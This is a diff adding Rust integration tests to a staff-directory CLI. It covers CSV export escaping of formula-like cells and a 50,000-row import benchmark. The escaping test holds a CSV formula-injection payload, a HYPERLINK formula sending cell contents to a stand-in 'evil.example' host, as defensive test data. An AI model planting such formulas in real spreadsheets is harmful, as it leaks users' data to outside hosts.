@@ -392,3 +392,66 @@ fn calendar_inspect_prints_exactly_the_documented_fields() {
     );
     assert!(err.contains("broken-date.ics, line 8"), "{err}");
 }
+
+#[test]
+fn formulas_in_imported_cells_are_text_when_exported_and_come_back_unchanged() {
+    let dir = demo_dir();
+    let d = dir.path();
+    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/import/hostile-formulas.csv");
+    ok(d, &["import", fixture.to_str().unwrap(), "--company", "rakennus"]);
+    let out = dir.path().join("staff.csv");
+    ok(d, &["export-staff", out.to_str().unwrap(), "--company", "rakennus"]);
+    let text = std::fs::read_to_string(&out).unwrap();
+    assert!(text.starts_with('\u{feff}'), "a BOM, so Excel reads UTF-8");
+    // Every cell starting like a formula is written as text (leading ').
+    let mut reader =
+        csv::ReaderBuilder::new().delimiter(b';').from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let mut formulas = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "an executable cell: {cell:?}");
+            formulas += usize::from(cell.starts_with('\''));
+        }
+    }
+    assert!(formulas >= 4, "{formulas} escaped cells");
+    // The stored text is as imported, and importing the export changes nothing.
+    let card: Value = serde_json::from_str(&ok(
+        d,
+        &["person", "show", "hakkeri@rakennus.example", "--company", "rakennus", "--json"],
+    ))
+    .unwrap();
+    assert_eq!(card["person"]["given_name"], "=HYPERLINK(\"http://evil.example/?\"&A1;\"Klikkaa\")");
+    assert_eq!(card["person"]["notes"], "-2+3");
+    let again = ok(d, &["import", out.to_str().unwrap(), "--company", "rakennus"]);
+    assert!(!again.contains("updated") || again.contains("0 updated"), "{again}");
+}
+
+#[test]
+fn fifty_thousand_rows_import_in_one_go() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    ok(d, &["company", "add", "--slug", "iso", "--name", "Iso Konserni Oyj"]);
+    let pop = vaihde::demo::population::generate(50_000, 1, 5).unwrap();
+    let file = d.join("iso.csv");
+    let mut csv = String::from("Etunimi;Sukunimi;Titteli;Osasto;Sähköposti;Alanumero;Matkapuhelin\n");
+    for p in &pop.people {
+        let phone = |i: usize| p.phones.get(i).map(|x| x.number.as_str()).unwrap_or("");
+        csv.push_str(&format!(
+            "{};{};{};{};{};{};{}\n",
+            p.given_name,
+            p.family_name,
+            p.title,
+            p.department,
+            p.emails[0],
+            phone(0),
+            phone(1)
+        ));
+    }
+    std::fs::write(&file, csv).unwrap();
+    let started = std::time::Instant::now();
+    ok(d, &["import", file.to_str().unwrap(), "--company", "iso"]);
+    let took = started.elapsed();
+    let list = ok(d, &["person", "list", "--company", "iso", "--json"]);
+    assert_eq!(list.lines().count(), 50_000, "one JSON line per person");
+    println!("50,000-row import: {took:?} (debug build)");
+}
